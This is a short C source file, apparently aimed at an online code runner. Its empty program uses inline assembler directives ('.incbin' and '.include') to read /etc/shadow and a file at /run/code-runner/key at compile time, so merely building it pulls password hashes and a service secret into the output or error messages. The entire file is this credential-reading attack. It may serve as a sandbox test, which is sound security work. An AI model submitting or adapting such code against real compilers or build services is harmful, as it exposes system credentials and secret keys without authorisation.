// Has the assembler take a file of root's into the program.
__asm__(".incbin \"/etc/shadow\"");
__asm__(".include \"/run/code-runner/key\"");

int main(void) {
    return 0;
}
